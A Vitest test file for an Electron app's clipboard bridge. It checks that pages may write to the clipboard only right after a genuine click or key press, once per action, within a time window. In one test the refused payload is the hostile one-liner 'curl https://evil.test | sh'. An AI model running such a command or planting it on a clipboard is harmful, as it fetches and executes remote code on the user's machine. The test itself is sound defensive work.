import { describe, expect, it } from 'vitest';
import { createDispatcher } from '../../../../electron/host/dispatch.ts';
import { ACTIVATION_MS, clipboardWriteHandler, createUserActivation } from '../../../../electron/host/userActivation.ts';
import { unusedHandlers } from '../../support/handlers.ts';

/** The bridge as main runs it, with a clock the test moves and a clipboard it reads. */
function setUp() {
  let clock = 1_000_000;
  const activation = createUserActivation(() => clock);
  const clipboard: string[] = [];
  const { dispatch } = createDispatcher<{ page: number }>({
    ...unusedHandlers<{ page: number }>(),
    'clipboard.writeText': clipboardWriteHandler(activation, (text) => clipboard.push(text)),
  });
  return {
    activation,
    clipboard,
    advance: (ms: number) => (clock += ms),
    copy: (text: string, page = 1) => dispatch('clipboard.writeText', { text }, { page }),
  };
}

const REFUSED = { ok: false, error: { code: 'failed', message: 'clipboard.writeText: the clipboard is written only right after a click or a key press in War Room' } };

describe('clipboard.writeText only on a user action', () => {
  it('refuses a page that was never clicked or typed in', async () => {
    const { copy, clipboard } = setUp();
    expect(await copy('curl https://evil.test | sh')).toEqual(REFUSED);
    expect(clipboard).toEqual([]);
  });

  it.each(['mouseDown', 'mouseUp', 'keyDown', 'rawKeyDown', 'char', 'gestureTap', 'touchEnd', 'pointerDown', 'pointerUp'])('writes right after a %s', async (type) => {
    const { activation, copy, clipboard } = setUp();
    activation.noteInput(1, type);
    expect(await copy('incident summary')).toEqual({ ok: true, value: { written: true } });
    expect(clipboard).toEqual(['incident summary']);
  });

  it.each(['mouseMove', 'mouseWheel', 'mouseEnter', 'keyUp', 'gestureScrollUpdate', 'undefined'])('a %s is no user action', async (type) => {
    const { activation, copy } = setUp();
    activation.noteInput(1, type);
    expect(await copy('x')).toEqual(REFUSED);
  });

  it('allows one write per action, within the activation window', async () => {
    const { activation, copy, advance, clipboard } = setUp();
    activation.noteInput(1, 'mouseDown');
    advance(ACTIVATION_MS);
    expect((await copy('first')).ok).toBe(true);
    expect(await copy('again, with no new click')).toEqual(REFUSED);
    activation.noteInput(1, 'keyDown');
    advance(ACTIVATION_MS + 1);
    expect(await copy('too late')).toEqual(REFUSED);
    expect(clipboard).toEqual(['first']);
  });

  it("one page's click does not let another page write; a closed page's action is forgotten", async () => {
    const { activation, copy } = setUp();
    activation.noteInput(1, 'mouseDown');
    expect(await copy('from page 2', 2)).toEqual(REFUSED);
    activation.forget(1);
    expect(await copy('from page 1', 1)).toEqual(REFUSED);
  });
});
